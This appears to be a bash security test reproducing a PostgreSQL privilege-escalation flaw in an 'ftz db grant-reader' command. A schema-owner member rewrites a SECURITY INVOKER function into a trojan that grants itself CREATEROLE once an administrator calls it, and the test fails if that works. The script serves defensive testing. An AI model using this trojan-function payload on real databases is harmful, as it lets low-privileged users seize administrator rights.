#!/usr/bin/env bash
# Break-it reproducer: ftz.grant_reader is owned by ftz_owner (when the
# migrations run as ftz_owner, as docs/bi.md says to in production) and is
# SECURITY INVOKER; `ftz db grant-reader` makes an administrator with
# CREATEROLE ("a superuser will do") call it. Any member of ftz_owner - a
# non-superuser deployer - can CREATE OR REPLACE that function, and its body
# then runs with the administrator's rights the next time someone makes an
# analyst login: the deployer grants itself CREATEROLE (or SUPERUSER).
# Expected: grant-reader never runs SQL the schema owner can rewrite with
# the caller's rights (e.g. checks client-side, or refuses a grant_reader
# not owned by a trusted role), so the deployer stays without CREATEROLE
# and the trojan's log stays empty.
source "$(dirname "$0")/../lib.sh"
export PGDATABASE="${FTZ_TEST_DB_PREFIX:-ftz_}$TEST_ID"
P="${FTZ_TEST_ROLE_PREFIX:-ftz_t_}${TEST_ID}"
DEPLOYER="${P}_deployer" ANALYST="${P}_analyst"
cd "$WORK"

on_exit() {
  local rc=$? r
  psql -X -q -d "$ADMIN_DB" -c "DROP DATABASE IF EXISTS \"$PGDATABASE\"" >/dev/null 2>&1 || true
  drop_roles "$ANALYST" "$DEPLOYER"
  return "$rc"
}
trap 'on_exit; cleanup' EXIT

psql -X -q -d "$ADMIN_DB" -c "CREATE DATABASE \"$PGDATABASE\"" >/dev/null || fail "cannot create $PGDATABASE"
q "GRANT CREATE ON DATABASE \"$PGDATABASE\" TO ftz_owner" >/dev/null
qv "$DEPLOYER" "CREATE ROLE :\"name\" LOGIN IN ROLE ftz_owner" >/dev/null
PGUSER=$DEPLOYER PGOPTIONS='-c role=ftz_owner' "$FTZ" db migrate -q 2>migrate.err \
  || fail "migrate as ftz_owner: $(cat migrate.err)"
assert_eq "f|f" "$(qv "$DEPLOYER" "SELECT rolsuper, rolcreaterole FROM pg_roles WHERE rolname = :'name'")" \
  "the deployer before"

# The deployer, as ftz_owner, rewrites the function it owns.
PGUSER=$DEPLOYER PGOPTIONS='-c role=ftz_owner' psql -X -q -v ON_ERROR_STOP=1 -v dep="$DEPLOYER" <<'SQL' \
  || fail "the owner could not replace ftz.grant_reader"
CREATE TABLE ftz.trojan_log (ran_as text, was_superuser boolean);
SELECT format($f$
CREATE OR REPLACE FUNCTION ftz.grant_reader(p_name text, p_password text DEFAULT NULL)
RETURNS text LANGUAGE plpgsql SET search_path = '' AS $b$
BEGIN
  INSERT INTO ftz.trojan_log SELECT current_user, rolsuper FROM pg_catalog.pg_roles
    WHERE rolname = current_user;
  EXECUTE %L;
  EXECUTE format('CREATE ROLE %%I LOGIN', p_name);
  EXECUTE format('GRANT ftz_reader TO %%I', p_name);
  RETURN 'created';
END $b$
$f$, format('ALTER ROLE %I CREATEROLE', :'dep')) \gexec
SQL

# An administrator makes an analyst login, as documented.
"$FTZ" db grant-reader "$ANALYST" 2>grant.err || log "grant-reader exited $?: $(cat grant.err)"
log "grant-reader said: $(cat grant.err)"
ran=$(q "SELECT coalesce(string_agg(ran_as || ' superuser=' || was_superuser, ', '), '') FROM ftz.trojan_log")
after=$(qv "$DEPLOYER" "SELECT rolsuper || '|' || rolcreaterole FROM pg_roles WHERE rolname = :'name'")
[[ -z $ran && $after == "false|false" ]] \
  || fail "code written by ftz_owner ran as [$ran] inside ftz db grant-reader; the deployer (member of ftz_owner) now has rolsuper|rolcreaterole = $after"
